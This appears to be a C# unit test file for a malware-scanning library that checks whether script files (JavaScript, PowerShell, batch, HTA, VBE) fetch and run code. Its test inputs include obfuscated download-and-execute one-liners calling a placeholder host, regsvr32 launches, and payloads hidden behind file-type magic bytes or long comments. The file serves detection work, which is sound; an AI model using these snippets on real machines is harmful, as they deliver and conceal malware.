using Postvakt.Documents.Kinds;
using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Scripts;

public sealed class ScriptReaderTests
{
    [Theory]
    [InlineData("a.js", "var s = new ActiveXObject('WScr' + 'ipt.Sh' + 'ell'); s.Run('regsvr32 /s x.ocx');", FileKind.JavaScript)]
    [InlineData("a.js", "var x = new ActiveXObject('MSXML2.XMLHTTP'); new ActiveXObject('WScript.Shell').Run(p)", FileKind.JavaScript)]
    [InlineData("a.ps1", "i`e`x (New-Object Net.WebClient).DownloadString('https://a.example/x')", FileKind.PowerShell)]
    [InlineData("a.bat", "@echo off\r\ncurl -o x https://a.example/x\r\np^ow^er^sh^ell -c x", FileKind.Batch)]
    [InlineData("a.hta", "<html><script>new ActiveXObject('WScript.Shell').Run('powershell -c x')</script></html>", FileKind.Hta)]
    public void Script_ThatFetchesAndStarts_Acts(string name, string source, FileKind kind)
    {
        var file = Look.At(name, source);
        Assert.Equal(kind, file.Kind);
        Assert.True(file.Has(FindingKinds.ScriptActs));
    }

    [Theory]
    [InlineData("a.js", "new ActiveXObject('WScript.Shell').Run(x)", true)]
    [InlineData("a.vbs", "Set s = CreateObject(\"WScript.\" & \"Shell\")", true)]
    [InlineData("jquery.js", "var x = new XMLHttpRequest(); x.open('GET', '/a');", false)]
    [InlineData("report.ps1", "Get-Process | Out-File processes.txt", false)]
    public void Script_ThatReachesIntoWindows_IsToldFromOneThatDoesNot(string name, string source, bool isHost)
    {
        var file = Look.At(name, source);
        Assert.Equal(isHost, file.Has(FindingKinds.ScriptHost));
        Assert.False(file.Has(FindingKinds.ScriptActs));
    }

    [Theory]
    [InlineData("README.md", "Run Invoke-WebRequest https://a.example/x and then Invoke-Expression.")]
    [InlineData("server.log", "powershell -ExecutionPolicy Bypass was seen")]
    [InlineData("fix.patch", "+@echo off\n+start calc")]
    public void TextThatPeopleRead_IsNoScript(string name, string source)
    {
        var file = Look.At(name, source);
        Assert.Equal(FileKind.Text, file.Kind);
        Assert.Empty(file.Findings);
    }

    [Theory]
    [InlineData("a.js", "GIF8=1;")]
    [InlineData("a.js", "ID3=1;")]
    [InlineData("a.js", "//-lh5-\n")]
    [InlineData("a.js", "/*\u0001\u0001\u0001\u0001\u0001\u0001\u0001\u0001\u0001\u0001\u0001\u0001*/")]
    [InlineData("a.hta", "GIF89a")]
    [InlineData("a.bat", "rem ftyp\r\n")]
    public void Script_BehindTheMarkOfAnotherKind_IsReadAllTheSame(string name, string front) =>
        Assert.True(Look.At(name, front + "var s = new ActiveXObject('WScript.Shell'); s.Run('regsvr32 /s x.ocx');").Has(FindingKinds.ScriptActs));

    [Fact]
    public void Script_WithoutAName_IsToldByItsWords() => Assert.Equal(FileKind.Batch, Look.At("readme.dat", "@echo off\r\nstart calc").Kind);

    [Fact]
    public void Script_ThatFetches_GivesTheAddress() =>
        Assert.Contains(Look.At("a.js", "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'https://a.exa' + 'mple/1.dat')").Effects, e => e.Kind == EffectKind.Download && e.Target == "https://a.example/1.dat");

    [Fact]
    public void EncodedScript_HidesItsText() => Assert.True(Look.At("a.vbe", "#@~^EwAAAA==abc").Has(FindingKinds.EncodedScript));

    [Fact]
    public void Notes_AboutScripts_AreText() => Assert.Equal(FileKind.Text, Look.At("notes.txt", "Remember to ask about the shell.").Kind);

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void Script_BehindALongComment_IsReadAtItsEndAndSaysSo(bool wide)
    {
        var source = $"/*{new string('x', 2 << 20)}*/\nvar s = new ActiveXObject('WScript.Shell'); s.Run('regsvr32 /s x.ocx');";
        var file = Look.Long("a.js", wide ? [0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes(source)] : System.Text.Encoding.UTF8.GetBytes(source));
        Assert.True(file.Has(FindingKinds.ScriptActs));
        Assert.Contains(file.Unread(), t => t.Contains("beginning and end", StringComparison.Ordinal));
    }

    [Fact]
    public void Words_AreFoundOnceEach_InTheirOrder()
    {
        var file = Look.At("a.js", "var c = 'curl '; // MSXML2.X\n'wscript.shell'; 'msxml2.y'; 'WScript.Shell'; powershell");
        Assert.Equal([("msxml2.", "a.js, line 1"), ("curl ", "a.js, line 1"), ("wscript.shell", "a.js, line 2"), ("powershell", "a.js, line 2")], file.Effects.Select(e => (e.Call, e.Where)));
    }

    [Theory]
    [InlineData("curl https://a.example", true)]
    [InlineData("libcurl.txt; curl https://a.example", true)]
    [InlineData("libcurl curling", false)]
    [InlineData("hhcmd", false)]
    public void Carrier_IsAWord_WhereverItStands(string command, bool starts) => Assert.Equal(starts, Postvakt.Documents.Macros.CommandLine.StartsCarrier(command));
}
